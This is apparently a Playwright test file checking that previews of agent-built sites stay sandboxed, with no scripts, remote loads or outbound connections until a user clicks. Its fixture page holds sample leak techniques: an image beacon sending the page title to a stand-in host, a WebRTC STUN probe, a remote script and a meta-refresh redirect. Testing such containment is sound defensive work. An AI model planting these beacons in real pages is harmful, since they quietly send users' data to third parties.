"""Previews of what an agent made: no scripts and nothing from elsewhere without a click, and nothing of it in the page itself."""

from __future__ import annotations

import json
import socket

import pytest
from playwright.sync_api import Browser, Route, expect

from tests.page.conftest import MakePerson
from tests.page.journal import tell, wait_until_idle
from tests.tooling.hub_process import HubProcess, Session
from tests.tooling.processes import eventually

ELSEWHERE = "https://elsewhere.example"
SITE = f"""<!doctype html><title>x</title><h1>An artifact</h1><script src="own.js"></script>
<img src="own.svg" alt="A drawing"><script src="{ELSEWHERE}/x.js"></script><img src="{ELSEWHERE}/x.png">
<script>const peer = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:PORT"}}]}});
peer.createDataChannel("x"); peer.createOffer().then(offer => peer.setLocalDescription(offer))</script>
<noscript><meta http-equiv="refresh" content="0; url={ELSEWHERE}/left"></noscript>
<script>new Image().src = "{ELSEWHERE}/told?" + document.title</script>"""
REFUSED = ("Blocked script execution|Refused to execute the redirect|Content Security Policy|"
           "violates the following|breach of the page's policy")


DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0h9v9z"/></svg>'
RUN = "Run scripts and load remote content"


KEEPS_CONNECTIONS = 156
"""The first version of Chromium that is known to heed Connection-Allowlist."""


def with_site(hub: HubProcess, port: int = 9, page: str = SITE) -> Session:
    """A session whose agent made a small site, which also asks a server at that port for its way into the net."""
    session = hub.new_session("trusted")
    (session.folder / "site").mkdir()
    steps = [["ask", "fs/write_text_file", {"path": str(session.folder / "site" / name), "content": content}]
             for name, content in (("own.js", "document.body.append('own script')"), ("own.svg", DRAWING),
                                   ("index.html", page.replace("PORT", str(port))))]
    tell(session, json.dumps(steps))
    wait_until_idle(session)
    eventually(lambda: session.view()["artifacts"], "there is an artifact")
    return session


def heard(listener: socket.socket) -> bool:
    """Whether anything has come."""
    try:
        return bool(listener.recv(1_000))
    except BlockingIOError:
        return False


def test_a_preview_runs_nothing_and_tells_nobody_until_somebody_clicks(own_hub: HubProcess, make_person: MakePerson) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.setblocking(False)
        session, person = with_site(own_hub, listener.getsockname()[1]), make_person(own_hub.url)
        person.expect_loss(REFUSED)
        asked: list[str] = []

        def answer(route: Route) -> None:
            asked.append(route.request.url)
            route.fulfill(status=200, content_type="text/javascript", body="document.body.append('from elsewhere')")

        person.context.route(f"{ELSEWHERE}/**", answer)
        page = person.log_in(own_hub, f"#/s/{session.id}/artifacts")
        page.get_by_role("complementary").get_by_text("site", exact=True).first.click()
        framed = page.frame_locator("iframe")
        with page.expect_popup() as opened:
            page.get_by_role("link", name="Open in a new tab").click()
        opened.value.wait_for_load_state()
        for still in (framed, opened.value):
            expect(still.get_by_role("heading", name="An artifact")).to_be_visible()
            expect(still.get_by_role("img", name="A drawing")).to_be_visible()
            expect(still.get_by_text("own script")).to_have_count(0)
        assert (asked, heard(listener)) == ([], False)
        opened.value.close()
        assert page.locator("iframe").get_attribute("sandbox") == ""
        expect(page.get_by_text("Once they run, it may send what it shows elsewhere.")).to_be_visible()
        page.get_by_role("button", name=RUN).click()
        expect(framed.get_by_text("own script")).to_be_visible()
        expect(page.get_by_role("button", name=RUN)).to_have_count(0)
        assert page.locator("iframe").get_attribute("sandbox") == "allow-scripts"
        eventually(lambda: heard(listener), "what runs can speak with others, as the page says")
        remote = {f"{ELSEWHERE}/{name}" for name in ("x.js", "x.png", "told?x")}
        eventually(lambda: remote <= set(asked), "what lies elsewhere is loaded")
        page.close()  # its script goes on asking
        # What was refused is told as a request, too; what counts is what left the browser.
        person.faults[:] = [fault for fault in person.faults if ELSEWHERE not in fault]


def test_a_still_preview_does_not_even_connect_elsewhere(own_hub: HubProcess, make_person: MakePerson, browser: Browser) -> None:
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        elsewhere = f"http://127.0.0.1:{listener.getsockname()[1]}"
        person = make_person(own_hub.url)
        if int(browser.version.split(".")[0]) < KEEPS_CONNECTIONS:
            pytest.skip("this browser connects to the address of a frame before it asks what is allowed")
        person.expect_loss(REFUSED)
        site = f'<h1>Framing</h1><img src="own.svg" alt="A drawing"><iframe src="{elsewhere}/x"></iframe><p>The end</p>'
        session = with_site(own_hub, page=site)
        page = person.log_in(own_hub, f"#/s/{session.id}/artifacts")
        page.get_by_role("complementary").get_by_text("site", exact=True).first.click()
        framed = page.frame_locator("iframe")
        expect(framed.get_by_text("The end")).to_be_visible()
        expect(framed.get_by_role("img", name="A drawing")).to_be_visible()
        page.wait_for_timeout(1_000)  # nothing tells that no connection was made
        with pytest.raises(BlockingIOError):
            listener.accept()
        person.faults[:] = [fault for fault in person.faults if elsewhere not in fault]


def test_what_an_agent_made_is_no_script_of_the_page(own_hub: HubProcess, make_person: MakePerson) -> None:
    session, person = with_site(own_hub), make_person(own_hub.url)
    person.expect_loss(REFUSED)
    page = person.log_in(own_hub, f"#/s/{session.id}")
    key = own_hub.wire.get(f"{session.path}/artifacts")[0]["preview_url"]
    tried = page.evaluate("""async (address) => {
      const imported = await import(address).then(() => 'ran', () => 'refused');
      return [imported, document.body.textContent.includes('own script') ? 'ran' : 'refused'];
    }""", f"{key}own.js")
    assert tried == ["refused", "refused"]
    assert page.evaluate("import('/assets/' + [...document.scripts][0].src.split('/').pop()).then(() => 'ran')") == "ran"
